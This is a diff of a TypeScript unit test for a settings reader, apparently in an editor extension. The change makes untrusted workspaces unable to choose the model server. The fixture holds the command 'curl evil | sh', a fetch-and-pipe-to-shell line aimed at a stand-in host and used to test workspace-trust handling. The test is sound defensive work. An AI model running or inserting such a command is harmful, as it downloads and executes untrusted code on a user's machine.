@@ -76,7 +76,7 @@ describe("readSettings", () => {
             model: { workspaceValue: "openai/gpt-4o" },
         };
         const untrusted = readSettings(inspector(values), false);
-        assert.deepEqual(untrusted.server, { model: "openai/gpt-4o" });
+        assert.deepEqual(untrusted.server, {}); // the model too: a repository cannot choose where its prompts go
         assert.equal(untrusted.values["server.python"], "/usr/bin/python3");
         const trusted = readSettings(inspector(values), true);
         assert.equal((trusted.server.verify as Record<string, unknown>).command, "curl evil | sh");
